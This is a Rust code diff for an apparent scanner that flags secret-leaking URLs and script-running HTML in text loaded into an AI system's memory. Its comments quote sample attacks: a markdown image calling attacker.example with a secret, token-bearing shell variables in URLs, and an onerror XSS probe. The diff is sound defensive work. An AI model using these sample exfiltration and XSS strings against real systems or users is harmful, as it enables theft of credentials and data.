@@ -153,7 +153,9 @@ const MAX_URL: usize = 4096;
 /// * in an image or a link (markdown or `src=`/`href=`), a shell variable with such a name
 ///   (`?t=$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`);
 /// * in an image, a query value left for the reader to fill in: `…`, `...`, or capitals such
-///   as `SECRET_HERE`, `INSERT_API_KEY`.
+///   as `SECRET_HERE`, `INSERT_API_KEY`. That is also how write-ups show the attack
+///   (`![x](https://attacker.example/?q=SECRET)`), so it is `exfiltration-placeholder`
+///   (SUSPICIOUS): marked, and made inert on output like every URL of loaded memory.
 ///
 /// Plain URLs stay clean: docs links, placeholders with other names (`{owner}`, `{version}`,
 /// `${VERSION}`), query strings with data already in them (a fixed URL sends nothing from
@@ -181,11 +183,13 @@ pub(super) fn scan_urls(b: &[u8], out: &mut Sink) {
         }
         let end = url_end(b, i);
         let place = url_place(b, i);
-        if let Some(at) = exfiltrating(b, i + scheme, end, place) {
+        if let Some((at, filled)) = exfiltrating(b, i + scheme, end, place) {
             let end = at.max(end).min(b.len());
             // In a code span inside prose it is shown, not rendered: an example in a write-up.
             let rule = if quotes.quoted_in_prose(b, i, end, true) {
                 "quoted-instruction"
+            } else if !filled {
+                "exfiltration-placeholder"
             } else {
                 "exfiltration-url"
             };
@@ -195,8 +199,10 @@ pub(super) fn scan_urls(b: &[u8], out: &mut Sink) {
     }
 }
 
-/// Where the URL `b[s..e]` (after its scheme) shows that it carries private data, if it does.
-fn exfiltrating(b: &[u8], s: usize, e: usize, place: UrlPlace) -> Option<usize> {
+/// Where the URL `b[s..e]` (after its scheme) shows that it carries private data, if it does,
+/// and whether it names what fills it (a substitution, a placeholder or variable with a
+/// private name) rather than leaving a bare value for the reader (`?q=SECRET`, `?d=...`).
+fn exfiltrating(b: &[u8], s: usize, e: usize, place: UrlPlace) -> Option<(usize, bool)> {
     let url = &b[s..e];
     let query = url
         .iter()
@@ -212,14 +218,14 @@ fn exfiltrating(b: &[u8], s: usize, e: usize, place: UrlPlace) -> Option<usize> 
             b'$' if decoded(b, k).0 == b'(' => {
                 let body = k + decoded(b, k).1;
                 match substitutes_private(b, body) {
-                    (true, _) => return Some(i),
+                    (true, _) => return Some((i, true)),
                     (false, len) => i = body + len,
                 }
                 continue;
             }
             b'`' => {
                 match substitutes_private(b, k) {
-                    (true, _) => return Some(i),
+                    (true, _) => return Some((i, true)),
                     (false, len) => i = k + len,
                 }
                 continue;
@@ -234,13 +240,13 @@ fn exfiltrating(b: &[u8], s: usize, e: usize, place: UrlPlace) -> Option<usize> 
                 let n = n + usize::from(b.get(n) == Some(&b'$'));
                 let private = private_name(b, n) >= if in_query { 1 } else { 2 };
                 if private && (c == b'{' || in_query || place != UrlPlace::Bare) {
-                    return Some(i);
+                    return Some((i, true));
                 }
             }
             b'$' if place != UrlPlace::Bare => {
                 let n = k + usize::from(decoded(b, k).0 == b'{');
                 if private_name(b, n) >= if in_query { 1 } else { 2 } {
-                    return Some(i);
+                    return Some((i, true));
                 }
             }
             _ => {}
@@ -260,7 +266,7 @@ fn exfiltrating(b: &[u8], s: usize, e: usize, place: UrlPlace) -> Option<usize> 
                         .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_')
                     && private_name(v, 0) > 0;
                 if dots || caps {
-                    return Some(q);
+                    return Some((q, false));
                 }
             }
         }
@@ -352,6 +358,54 @@ fn substitutes_private(b: &[u8], s: usize) -> (bool, usize) {
 /// URL runs script where it is rendered. JSX handlers, whose value is an expression in braces
 /// (`<Button onClick={save}>`), and prose about them ("avoid inline onclick handlers",
 /// "the javascript: scheme is blocked by CSP") stay clean.
+/// Whether an event handler's value (`b` from the attribute on) only calls `alert`,
+/// `confirm`, `prompt` or `console.log` with a literal: the proof of concept of XSS write-ups
+/// (`<img src=x onerror=alert(1)>`), which inside a sentence is `script-proof-of-concept`
+/// (SUSPICIOUS) rather than `html-event-handler` (TAINTED).
+fn proof_of_concept(b: &[u8]) -> bool {
+    let Some(eq) = b.iter().position(|&c| c == b'=') else {
+        return false;
+    };
+    let v = unquoted_value(&b[eq + 1..]);
+    let Some(open) = v.iter().position(|&c| c == b'(') else {
+        return false;
+    };
+    let name = &v[..open];
+    let args = &v[open + 1..];
+    let close = args.iter().position(|&c| c == b')');
+    [
+        &b"alert"[..],
+        b"confirm",
+        b"prompt",
+        b"console.log",
+        b"window.alert",
+    ]
+    .iter()
+    .any(|f| name.eq_ignore_ascii_case(f))
+        && close.is_some_and(|c| {
+            args[..c]
+                .iter()
+                .all(|&x| x.is_ascii_alphanumeric() || b" '\"_-.,".contains(&x))
+                && args[c + 1..].iter().all(|&x| b" ;'\">/".contains(&x))
+        })
+}
+
+/// An attribute value without its quotes: up to the closing quote, or to a blank or `>`.
+fn unquoted_value(v: &[u8]) -> &[u8] {
+    match v.first() {
+        Some(&q @ (b'"' | b'\'')) => {
+            let v = &v[1..];
+            &v[..v.iter().position(|&c| c == q).unwrap_or(v.len())]
+        }
+        _ => {
+            &v[..v
+                .iter()
+                .position(|&c| c.is_ascii_whitespace() || c == b'>')
+                .unwrap_or(v.len())]
+        }
+    }
+}
+
 pub(super) fn scan_html(b: &[u8], out: &mut Sink) {
     let mut i = 0;
     while i < b.len() {
@@ -363,7 +417,23 @@ pub(super) fn scan_html(b: &[u8], out: &mut Sink) {
                     .position(|&c| c == b'>' || c == b'<' || c == b'\n')
                     .map_or(b.len().min(i + 401), |p| i + 1 + p);
                 if let Some(at) = event_attribute(&b[i..end]) {
-                    out.hit("html-event-handler", i, (end + 1).min(b.len()).max(i + at));
+                    // `onerror=alert(1)` inside a sentence ("a tester posted <img …> and"):
+                    // the proof of concept a postmortem shows; it runs, but shows a box and
+                    // takes nothing. A bare tag is a probe, as any other handler.
+                    let line = &b[b[..i]
+                        .iter()
+                        .rposition(|&c| c == b'\n')
+                        .map_or(0, |p| p + 1)..i];
+                    let in_sentence = line
+                        .trim_ascii_end()
+                        .last()
+                        .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b',' || *c >= 0x80);
+                    let rule = if in_sentence && proof_of_concept(&b[i + at..end]) {
+                        "script-proof-of-concept"
+                    } else {
+                        "html-event-handler"
+                    };
+                    out.hit(rule, i, (end + 1).min(b.len()).max(i + at));
                 }
                 i += 1;
             }
